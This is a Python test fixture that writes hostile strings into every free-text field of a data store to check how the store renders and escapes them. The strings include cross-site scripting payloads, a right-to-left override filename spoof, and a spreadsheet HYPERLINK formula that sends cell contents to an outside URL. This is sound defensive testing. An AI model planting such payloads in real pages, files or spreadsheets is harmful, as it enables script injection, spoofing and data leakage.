"""What a hostile report would try, put into every free text of a store."""

from __future__ import annotations

from bench.desk_store import Tables

SCRIPT = "<script>window.pwned=1</script>"
ATTRIBUTE = '" onmouseover="window.pwned=1" x=\''
END_OF_DATA = "</script><img src=x onerror=window.pwned=1>"
OVERRIDE = "safe\u202egnp.exe\u202c"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"more")'
RIGHT_TO_LEFT = "محمد بن سلمان"
EVERY = (SCRIPT, ATTRIBUTE, END_OF_DATA, OVERRIDE, FORMULA, RIGHT_TO_LEFT)
FREE = {
    "reports": ("outlet", "title", "author", "url"),
    "incidents": ("title", "place_name", "country"),
    "claims": ("holder", "population", "value"),
    "ledger": ("actor", "what", "place", "holder", "number_text"),
    "event_holders": ("name",),
    "passages": ("origin_id",),
    "incident_log": ("by", "reason"),
}


def make_hostile(tables: Tables) -> Tables:
    """The tables with each free text made one of the hostile ones; report texts get them at their end."""
    for name, fields in FREE.items():
        for number, row in enumerate(tables.get(name, ())):
            for place, field in enumerate(fields):
                row[field] = EVERY[(number + place) % len(EVERY)]
    for number, row in enumerate(tables["incidents"]):
        row["actors"], row["recipients"] = [EVERY[number % len(EVERY)]], [EVERY[(number + 1) % len(EVERY)]]
    for row in tables["reports"]:
        row["text"] += "\n".join(EVERY)
    return tables
